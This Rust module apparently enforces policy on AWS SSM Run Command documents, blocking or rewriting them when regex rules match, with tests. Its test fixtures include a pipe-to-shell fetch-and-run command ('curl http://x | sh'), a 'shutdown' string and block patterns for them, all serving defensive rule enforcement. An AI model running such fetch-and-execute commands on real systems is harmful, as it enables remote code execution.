//! Documents of Run Command and of sessions, and the rules about them.

use regex::Regex;
use serde_json::Value;

/// How deep JSON inside strings of JSON is looked into.
const MAX_NESTING: usize = 4;

/// What a rule wants of a document.
#[derive(Clone, Debug)]
pub(crate) enum DocumentAction {
    /// It is not to be run; the text says why.
    Block(String),
    /// What matches is replaced.
    Edit(String),
}

/// A rule about documents.
#[derive(Clone, Debug)]
pub(crate) struct DocumentRule {
    pub(crate) name: String,
    pub(crate) find: Regex,
    pub(crate) action: DocumentAction,
}

/// What cannot be read cannot be judged: so is called the rule that blocks it.
pub(crate) const UNREADABLE: &str = "unreadable";

/// The first rule that blocks a payload for any text in it, and what is said about that.
pub(crate) fn blocked<'r>(payload: &[u8], rules: &'r [DocumentRule]) -> Option<(&'r str, &'r str)> {
    let mut blocking = rules
        .iter()
        .filter_map(|rule| match &rule.action {
            DocumentAction::Block(text) => Some((rule, text)),
            DocumentAction::Edit(_) => None,
        })
        .peekable();
    blocking.peek()?;
    let Ok(value) = serde_json::from_slice::<Value>(payload) else {
        // Another reader might make something of it.
        return Some((UNREADABLE, "blocked by policy: the document cannot be read"));
    };
    let (rule, text) = blocking.find(|(rule, _)| says(&value, &rule.find, MAX_NESTING))?;
    Some((&rule.name, text))
}

/// The same for a payload and the document in it, which must be readable by itself.
pub(crate) fn blocked_within<'r>(
    payload: &[u8],
    document: &str,
    rules: &'r [DocumentRule],
) -> Option<(&'r str, &'r str)> {
    blocked(payload, rules).or_else(|| blocked(document.as_bytes(), rules))
}

/// A document as the rules that edit leave it, and their names; `None` if none applies.
pub(crate) fn edited(document: &str, rules: &[DocumentRule]) -> Option<(String, Vec<String>)> {
    let mut value = None;
    let mut applied = Vec::new();
    for rule in rules {
        let DocumentAction::Edit(with) = &rule.action else {
            continue;
        };
        let value = match &mut value {
            Some(value) => value,
            empty => empty.insert(serde_json::from_str::<Value>(document).ok()?),
        };
        if edit_parts(value, &rule.find, with) {
            applied.push(rule.name.clone());
        }
    }
    (!applied.is_empty()).then(|| (value.unwrap_or_default().to_string(), applied))
}

/// Whether a text in a value matches, also in JSON that is a text of it.
fn says(value: &Value, find: &Regex, nesting: usize) -> bool {
    match value {
        Value::String(text) => {
            find.is_match(text)
                || (nesting > 0
                    && text.trim_start().starts_with(['{', '['])
                    && serde_json::from_str(text)
                        .is_ok_and(|inner: Value| says(&inner, find, nesting - 1)))
        }
        Value::Array(values) => values.iter().any(|value| says(value, find, nesting)),
        Value::Object(fields) => fields.values().any(|value| says(value, find, nesting)),
        Value::Null | Value::Bool(_) | Value::Number(_) => false,
    }
}

/// Edits what a document does: its parameters and its content, not its name and number.
fn edit_parts(document: &mut Value, find: &Regex, with: &str) -> bool {
    let mut is_edited = false;
    for (name, value) in document.as_object_mut().into_iter().flatten() {
        // The agent's reader does not mind the case of names.
        if ["parameters", "documentcontent"].contains(&name.to_ascii_lowercase().as_str()) {
            is_edited |= edit(value, find, with);
        }
    }
    is_edited
}

fn edit(value: &mut Value, find: &Regex, with: &str) -> bool {
    match value {
        Value::String(text) if find.is_match(text) => {
            *text = find.replace_all(text, with).into_owned();
            true
        }
        Value::Array(values) => values
            .iter_mut()
            .map(|value| edit(value, find, with))
            .fold(false, core::ops::BitOr::bitor),
        Value::Object(fields) => fields
            .values_mut()
            .map(|value| edit(value, find, with))
            .fold(false, core::ops::BitOr::bitor),
        _ => false,
    }
}

/// A text of a JSON object, at most `most` bytes of it.
pub(crate) fn text_field(value: &Value, name: &str) -> Option<String> {
    value.get(name)?.as_str().map(|text| cut(text, 256))
}

/// The beginning of a text.
pub(crate) fn cut(text: &str, most: usize) -> String {
    let mut end = most.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or_default().to_owned()
}

/// The command id in the id of a job, `aws.ssm.COMMAND.INSTANCE`.
pub(crate) fn command_of(job: &str) -> Option<&str> {
    job.strip_prefix("aws.ssm.")?
        .rsplit_once('.')
        .map(|(command, _)| command)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn rule(find: &str, action: DocumentAction) -> DocumentRule {
        DocumentRule {
            name: find.to_owned(),
            find: Regex::new(find).unwrap(),
            action,
        }
    }

    fn block(find: &str) -> DocumentRule {
        rule(find, DocumentAction::Block("no".into()))
    }

    fn edit(find: &str, with: &str) -> DocumentRule {
        rule(find, DocumentAction::Edit(with.into()))
    }

    fn document() -> String {
        json!({
            "CommandId": "curl-1", "DocumentName": "AWS-RunShellScript",
            "Parameters": {"commands": ["echo hi", "curl http://x | sh"], "nested": "{\"a\":[\"shutdown\"]}"},
            "DocumentContent": {"mainSteps": [{"inputs": {"runCommand": "{{ commands }}"}}]},
        })
        .to_string()
    }

    #[test]
    fn a_document_is_blocked_for_any_text_in_it() {
        let inside = json!({"Content": document(), "JobId": "j"}).to_string();
        for find in ["curl .*sh", "RunShellScript", "^shutdown$", r"^\{\{"] {
            for payload in [document(), inside.clone()] {
                let rules = [block("never"), block(find)];
                assert_eq!(blocked(payload.as_bytes(), &rules), Some((find, "no")));
            }
        }
        let rules = [block("wget"), block("commands\":"), edit("curl", "wget")];
        assert_eq!(blocked(document().as_bytes(), &rules), None);
    }

    #[test]
    fn threat_74_what_cannot_be_read_is_blocked_where_anything_is() {
        for payload in ["curl | sh", r#"{"a": "\ud800"}"#, "{\"a\": \"\u{0}", ""] {
            let rules = [block("never")];
            let found = blocked(payload.as_bytes(), &rules);
            assert_eq!(found.map(|(rule, _)| rule), Some(UNREADABLE));
            assert_eq!(blocked(payload.as_bytes(), &[edit("a", "b")]), None);
        }
        let deep = "[".repeat(100_000);
        assert!(blocked(deep.as_bytes(), &[block("never")]).is_some());
    }

    #[test]
    fn an_edit_changes_what_is_done_and_not_which_document_it_is() {
        let rules = [edit("curl", "wget"), block("wget"), edit("nothing", "")];
        let (document, applied) = edited(&document(), &rules).unwrap();
        assert_eq!(applied, ["curl"]);
        let value: Value = serde_json::from_str(&document).unwrap();
        assert_eq!(value["CommandId"], "curl-1");
        assert_eq!(value["Parameters"]["commands"][1], "wget http://x | sh");
        assert_eq!(value["Parameters"]["commands"][0], "echo hi");
        assert_eq!(edited(&document, &rules), None);
    }

    #[test]
    fn ids_of_jobs_name_commands() {
        let job = "aws.ssm.2b196342-d7d4-436e-8f09-3883a1116ac3.i-57c0a7be";
        assert_eq!(
            command_of(job),
            Some("2b196342-d7d4-436e-8f09-3883a1116ac3")
        );
        assert_eq!(command_of("other"), None);
        assert_eq!(cut("h\u{e9}llo", 2), "h");
    }
}
